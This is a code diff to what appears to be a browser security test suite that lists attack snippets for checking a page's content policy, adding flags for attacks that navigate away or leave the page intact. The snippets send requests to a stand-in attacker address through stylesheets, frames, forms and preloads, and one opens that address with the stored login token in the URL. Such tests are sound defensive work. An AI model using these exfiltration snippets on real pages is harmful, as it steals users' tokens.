@@ -8,12 +8,16 @@ export interface BrowserAttack {
   readonly code: string;
   /** Code that must succeed on the same page. Without it, the attack itself must succeed on a page without a policy. */
   readonly control?: string;
+  /** The page navigates to another site when the attack succeeds. */
+  readonly leaves?: true;
+  /** The attack and its control change nothing in the document, so that the next attack can run there. */
+  readonly keepsDocument?: true;
 }
 
 /** The things that attacks try to reach. */
 export interface AttackTarget {
   readonly reached: 'reached';
-  /** An origin of the attacker. Each request to it counts as a success. */
+  /** An address of the attacker for one try of one attack. Each request to it, or to a path below it, counts as a success. */
   readonly other: string;
   /** A server for peer connections of the attacker. Each datagram counts as a success. */
   readonly stun: string;
@@ -55,10 +59,13 @@ const SENDING = [
   attack('style sheet', `return loaded(make('link', { rel: 'stylesheet', href: t.other }));`),
   attack('frame', `document.body.append(make('iframe', { src: t.other })); await never;`),
   attack('object', `return loaded(make('object', { data: t.other }));`),
-  attack(
-    'form',
-    `const form = make('form', { action: t.other }); document.body.append(form); form.submit(); await never;`,
-  ),
+  {
+    ...attack(
+      'form',
+      `const form = make('form', { action: t.other }); document.body.append(form); form.submit(); await never;`,
+    ),
+    leaves: true,
+  },
   attack('preload', `return loaded(make('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: t.other }));`),
   attack('module preload', `return loaded(make('link', { rel: 'modulepreload', href: t.other + '/x.js' }));`),
   attack('prefetch', `return loaded(make('link', { rel: 'prefetch', href: t.other }));`),
@@ -239,9 +246,8 @@ export const BROWSER_ATTACKS: readonly BrowserAttack[] = [
   ...SENDING,
   ...CODE,
   ...STAYING,
-  ...COOKIE,
   ...OTHER_REMOTES,
-  ...CALLS,
+  ...[...COOKIE, ...CALLS].map((each): BrowserAttack => ({ ...each, keepsDocument: true })),
 ];
 
 /** Actions of a remote as the user on the page that is open. `infra/docs/security.md` names these actions. */
@@ -249,10 +255,13 @@ export const ACTIONS_OF_USER: readonly BrowserAttack[] = [
   attack('read the token', `return typeof localStorage.token === 'string' && t.reached;`),
   attack('call the API', OWN_CALL),
   attack('draw a field for a password', `document.body.append(make('input', { type: 'password' })); return t.reached;`),
-  attack(
-    'open another site with the token in its address',
-    `location.href = t.other + '/?' + localStorage.token; await never;`,
-  ),
+  {
+    ...attack(
+      'open another site with the token in its address',
+      `location.href = t.other + '/?' + localStorage.token; await never;`,
+    ),
+    leaves: true,
+  },
   // Chromium 156 does not know the directive `webrtc 'block'`.
   attack(
     'open a peer connection to another server',
